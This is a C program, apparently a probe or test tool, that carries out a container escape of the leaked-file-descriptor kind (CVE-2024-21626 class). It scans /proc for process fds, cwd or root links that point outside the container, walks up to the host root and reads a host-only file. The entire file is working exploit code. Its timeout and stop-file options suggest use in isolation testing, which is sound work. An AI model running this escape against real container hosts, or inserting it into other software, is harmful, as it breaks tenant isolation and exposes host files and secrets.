/* An attacker inside a container (CVE-2024-21626 class): find any process
 * that holds a directory outside our root (an fd, its cwd or its root), step
 * into it and walk up to the host root, then read a file only the host has.
 *   fdwalk SECONDS HOST_FILE_RELATIVE_TO_HOST_ROOT [STOP_FILE]
 * Prints "ESCAPED via /proc/PID/..." and the file's first line on success and
 * exits 0; exits 1 when time is up (or STOP_FILE appears) without a way out. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int try_dir(const char *path, const char *target)
{
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int won = 0;
	if (fchdir(fd) == 0) {
		for (int i = 0; i < 32; i++)
			if (chdir("..") < 0)
				break;
		FILE *f = fopen(target, "re");
		if (f) {
			char line[256] = "";
			if (!fgets(line, sizeof(line), f))
				line[0] = 0;
			printf("ESCAPED via %s: %s", path, line);
			fclose(f);
			won = 1;
		}
	}
	if (here >= 0) {
		if (fchdir(here) < 0)
			won = -1; /* lost our place: stop */
		close(here);
	}
	close(fd);
	return won;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	time_t end = time(NULL) + atoi(argv[1]);
	const char *target = argv[2], *stop = argc > 3 ? argv[3] : NULL;
	pid_t self = getpid();
	while (time(NULL) < end && !(stop && access(stop, F_OK) == 0)) {
		DIR *d = opendir("/proc");
		if (!d)
			return 2;
		for (struct dirent *e; (e = readdir(d));) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 1 || pid == self)
				continue;
			char p[64];
			for (int n = 3; n < 16; n++) {
				snprintf(p, sizeof(p), "/proc/%d/fd/%d", pid, n);
				if (try_dir(p, target) == 1)
					return 0;
			}
			snprintf(p, sizeof(p), "/proc/%d/cwd", pid);
			if (try_dir(p, target) == 1)
				return 0;
			snprintf(p, sizeof(p), "/proc/%d/root", pid);
			if (try_dir(p, target) == 1)
				return 0;
		}
		closedir(d);
	}
	return 1;
}
